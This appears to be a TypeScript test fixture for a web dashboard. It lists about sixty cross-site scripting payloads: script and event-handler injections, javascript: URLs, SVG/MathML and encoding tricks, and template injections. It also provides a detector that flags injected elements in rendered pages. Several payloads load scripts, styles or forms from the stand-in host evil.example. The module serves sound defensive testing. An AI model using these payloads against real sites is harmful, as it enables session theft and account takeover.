/**
 * Attack texts. Executed code calls `pwn`, which logs an error; requests to `evil.example` are
 * detected.
 */

/** Texts that raw HTML acts on: in text, attributes, comments, scripts, styles or links. */
export const MARKUP: readonly string[] = [
  "<script>pwn()</script>",
  '"><script>pwn()</script>',
  "'><script>pwn()</script>",
  "</script><script>pwn()</script>",
  "</title><script>pwn()</script>",
  "</textarea><script>pwn()</script>",
  "</style><script>pwn()</script>",
  "</pre></code><script>pwn()</script>",
  "--><script>pwn()</script>",
  "]]><script>pwn()</script>",
  "<ScRiPt/x>pwn()</sCrIpT >",
  "<script src=//evil.example/x.js></script>",
  '<script type=module>import("//evil.example/x.js")</script>',
  "<img src=x onerror=pwn()>",
  "<img src=//evil.example/x.png>",
  "<image src=x onerror=pwn()",
  "<svg onload=pwn()>",
  "<svg><script>pwn()</script></svg>",
  '<svg><a xlink:href="javascript:pwn()"><text y=9>x</text></a></svg>',
  "<svg><animate onbegin=pwn() attributeName=x dur=1s>",
  '<math><maction xlink:href="javascript:pwn()">x</maction></math>',
  "<math><mtext><table><mglyph><style><img src=x onerror=pwn()>",
  '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
  '<iframe srcdoc="<script>parent.pwn()</script>">',
  "<iframe src=javascript:parent.pwn()>",
  "<object data=javascript:pwn()>",
  "<embed src=//evil.example/x.swf>",
  "<base href=//evil.example/>",
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>*{background:url(//evil.example/x)}</style>",
  "<form action=//evil.example/><button autofocus>Sign in",
  "<input autofocus onfocus=pwn()>",
  "<details open ontoggle=pwn()>",
  "<body onload=pwn()>",
  "<xss id=x tabindex=1 onfocus=pwn() autofocus>",
  '" autofocus onfocus="pwn()',
  "' autofocus onfocus='pwn()",
  "x autofocus onfocus=pwn()",
  "javascript:pwn()",
  "jAvAsCrIpT&colon;pwn()",
  "java&#9;script:pwn()//",
  "data:text/html,<script>pwn()</script>",
  '<a href=" &#14; javascript:pwn()" autofocus>x</a>',
  "//evil.example/",
  "<p hx-get=//evil.example/ hx-trigger=load>",
  "<p hx-on::load=pwn() hx-trigger=load>",
  "\u202Egnp.<img src=x onerror=pwn()>",
];

/** Texts that only act after decoding, translation, filtering or evaluation. */
export const ENCODED: readonly string[] = [
  "red;background:url(//evil.example/x)",
  "<scr<script>ipt>pwn()</scr</script>ipt>",
  "&lt;script&gt;pwn()&lt;/script&gt;",
  "\\u003cscript\\u003epwn()\\u003c/script\\u003e",
  "%3Cscript%3Epwn()%3C%2Fscript%3E",
  "+ADw-script+AD4-pwn()+ADw-/script+AD4-",
  "＜script＞pwn()＜/script＞",
  '{{constructor.constructor("pwn()")()}}',
  "${pwn()}",
  "<%= pwn() %>",
  "[x](javascript:pwn()) ![x](//evil.example/x.png)",
  '";pwn();"',
];

export const PAYLOADS: readonly string[] = [...MARKUP, ...ENCODED];

/** Runs in every page before its scripts; logs an error when a payload is executed. */
export const TELL_WHEN_RUN = 'globalThis.pwn = () => console.error("a payload was run");';

/** Contexts in which a careless page may place a text. */
const PLACES = [
  "<p>_</p>",
  '<p title="_">x</p>',
  "<p title='_'>x</p>",
  "<p title=_>x</p>",
  '<a href="_">x</a>',
  '<p style="color:_">x</p>',
  "<title>_</title>",
  "<textarea>_</textarea>",
  "<pre><code>_</code></pre>",
  "<!-- _ -->",
  "<script type=application/json>_</script>",
  "<style>_</style>",
  "<svg><title><![CDATA[_]]></title></svg>",
];

/** Expression for a function of a document that returns the elements not created by the service. */
const STRANGE = `((document) => {
  const own = (url) => {
    try {
      return new URL(url, location.href).origin === location.origin;
    } catch {
      return false;
    }
  };
  const never = "style,iframe,object,embed,base,math,animate,image,xss,noembed,applet";
  const isScript = /^(on|hx-on|data-hx-on|srcdoc$|style$)/i;
  const isUrl = /^(href|src|action|formaction|xlink:href|data|(data-)?hx-(get|post|put|delete))$/i;
  const strange = (element) =>
    element.matches(never) ||
    (element.localName === "script" && !/^\\/dashboard\\/assets\\//.test(element.getAttribute("src"))) ||
    (element.localName === "meta" && /url/i.test(element.content)) ||
    [...element.attributes].some(({ name, value }) =>
      isScript.test(name) || (isUrl.test(name) && !own(value))
    );
  return [...document.querySelectorAll("*")].filter(strange)
    .map((element) => element.outerHTML.slice(0, 120));
})`;

/** Expression for the elements of a page that the service did not create. */
export const STRANGE_ELEMENTS = `${STRANGE}(document)`;

/** Expression for the texts that stay undetected when inserted unescaped in any context. */
export function unnoticed(texts: readonly string[]): string {
  return `${JSON.stringify(texts)}.filter((text) =>
    ${JSON.stringify(PLACES)}.every((place) => {
      const page = new DOMParser().parseFromString(place.replace("_", () => text), "text/html");
      const plain = new DOMParser().parseFromString(place.replace("_", "x"), "text/html");
      return ${STRANGE}(page).length <= ${STRANGE}(plain).length;
    }))`;
}
